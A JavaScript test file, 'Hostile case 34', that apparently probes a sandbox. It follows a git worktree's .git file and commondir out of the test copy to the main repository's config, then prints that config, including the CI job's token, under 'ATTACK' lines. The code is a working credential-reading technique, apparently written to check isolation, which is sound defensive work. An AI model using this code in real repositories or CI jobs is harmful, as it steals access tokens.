// Hostile case 34: the project is a git worktree (a pull request's head checked out beside
// its base, as workflows do), whose .git is a file naming its folder in the main
// repository's .git; the main repository's config holds the job's token. The copy the
// tests run in has no .git, so they go for the original checkout at its own path (in
// origin.txt) and follow the .git file and commondir to that config. What each step met
// is printed for the host to read.
import { readFileSync } from "node:fs";
import { basename, dirname, join, normalize } from "node:path";
import { test } from "node:test";

function read(path) {
  try {
    return readFileSync(path, "utf8");
  } catch (e) {
    console.log(`ATTACK read ${basename(path)}: refused (${e.code})`);
    return null;
  }
}

test("worktree token", () => {
  const origin = readFileSync(join(import.meta.dirname, "..", "origin.txt"), "utf8").trim();
  const dotgit = read(join(origin, ".git"));
  if (!dotgit || !dotgit.includes("gitdir:")) {
    console.log(`ATTACK .git file: ${JSON.stringify(dotgit)}`);
    return;
  }
  const gitdir = dotgit.split("gitdir:")[1].trim();
  const common = read(join(gitdir, "commondir"));
  const main = common ? normalize(join(gitdir, common.trim())) : dirname(dirname(gitdir));
  for (const path of [join(main, "config"), join(gitdir, "config.worktree")]) {
    const text = read(path);
    if (text !== null) console.log(`ATTACK read ${basename(path)}: ${JSON.stringify(text)}`);
  }
});
